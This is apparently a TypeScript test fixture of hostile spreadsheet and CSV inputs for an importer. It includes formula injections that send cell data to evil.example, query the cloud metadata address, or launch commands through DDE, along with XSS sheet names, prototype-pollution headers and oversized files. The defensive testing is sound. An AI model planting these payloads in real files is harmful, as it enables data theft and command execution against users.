import { sheet1, strings, csv, formula, number, bigSheet, type HostileFile } from './hostile-parts.fixture.ts'
import {
  sheetWithHead,
  inline,
  relation,
  relationsXml,
  sheetOf,
  stringsXml,
  textRow,
  workbookXml,
  worksheet,
  xlsx,
} from './xlsx.fixture.ts'

export const values: HostileFile[] = [
  ['a formula that opens an address', () => formula('HYPERLINK("http://evil.example/?"&amp;A1,"点我")', '点我')],
  ['a formula that asks the web', () => formula('WEBSERVICE("http://169.254.169.254/latest")', '330106199001011232')],
  ['a formula that starts a program', () => formula("cmd|'/c calc'!A0", '#REF!', 'e')],
  ['a formula by DDE', () => formula('DDE("cmd","/c calc","x")', '0')],
  ['a formula on another workbook', () => formula("'\\\\evil.example\\share\\[x.xlsx]S'!A1", '330106199001011232')],
  ['a formula of a table', () => formula('SUM(A1:XFD1048576)', '7')],
  ['a formula without a value', () => sheetOf(sheetWithHead('<c r="B2"><f>NOW()</f></c>'))],
  [
    'a formula that others share',
    () => sheetOf(sheetWithHead('<c r="B2"><f t="shared" ref="B2:B9" si="0">RAND()</f><v>1</v></c>')),
  ],
  [
    'a formula over all cells',
    () => sheetOf(sheetWithHead('<c r="B2"><f t="array" ref="A1:XFD1048576">RAND()</f><v>1</v></c>')),
  ],
  ['words that begin like formulas', () => sheetOf(sheetWithHead(inline('B2', "=cmd|'/c calc'!A0")))],
  [
    'a shared string like a formula',
    () =>
      xlsx(
        { name: strings, data: stringsXml('<si><t>=HYPERLINK("http://evil.example")</t></si>') },
        { name: sheet1, data: worksheet(sheetWithHead('<c r="B2" t="s"><v>0</v></c>')) },
      ),
  ],
  [
    'a link in a cell',
    () =>
      xlsx({
        name: 'xl/worksheets/_rels/sheet1.xml.rels',
        data: relationsXml(relation('rId1', 'hyperlink', 'http://evil.example/', ' TargetMode="External"')),
      }),
  ],
  [
    'a picture from elsewhere',
    () =>
      xlsx({
        name: 'xl/drawings/_rels/drawing1.xml.rels',
        data: relationsXml(relation('rId1', 'image', 'http://evil.example/a.png', ' TargetMode="External"')),
      }),
  ],
  ['an endless number', () => number('1e999')],
  ['no number', () => number('NaN')],
  ['a very large number', () => number('1e308')],
  ['a number of words', () => number('&lt;script&gt;')],
  ['a day before all days', () => number('-44000', 1)],
  ['a day after all days', () => number('1e10', 1)],
  ['a day of a style that is not there', () => number('44000', 9_999_999)],
  ['a million empty rows', () => xlsx(bigSheet('<row/>'.repeat(1024), 1023, { before: textRow(2, '张三', '1') }))],
  [
    'a row of 16,384 empty cells',
    () =>
      sheetOf(
        `${textRow(1, '姓名', '身份证号')}<row r="2">${inline('A2', '张三')}${'<c s="1"/>'.repeat(16_383)}</row>`,
      ),
  ],
  ['signs that turn the reading direction', () => sheetOf(sheetWithHead(inline('B2', '\u202e330106\u2066')))],
  [
    'a name of a sheet like a page',
    () =>
      xlsx({
        name: 'xl/workbook.xml',
        data: workbookXml('<sheet name="&lt;script&gt;alert(1)&lt;/script&gt;" sheetId="1" r:id="rId1"/>'),
      }),
  ],
  [
    'headings like pages',
    () => sheetOf(`${textRow(1, '姓名', '&lt;img src=x onerror=alert(1)&gt;')}${textRow(2, '张三', '1')}`),
  ],
  [
    'a heading called like the root of all objects',
    () => sheetOf(`${textRow(1, '姓名', '__proto__', 'constructor')}${textRow(2, '张三', '1', '2')}`),
  ],
  ['an old workbook that is a new one', () => xlsx(), 'xls'],
  ['a text with formulas', () => csv("=cmd|'/c calc'!A0,+1\n@SUM(A1),-1\n\t=1,\r=2\n"), 'csv'],
  ['a text with a formula in quotes', () => csv('"=HYPERLINK(""http://evil.example"")",1\n'), 'csv'],
  ['a text of empty lines', () => csv(`张三,1\n${'\n'.repeat(2_000_000)}`), 'csv'],
]
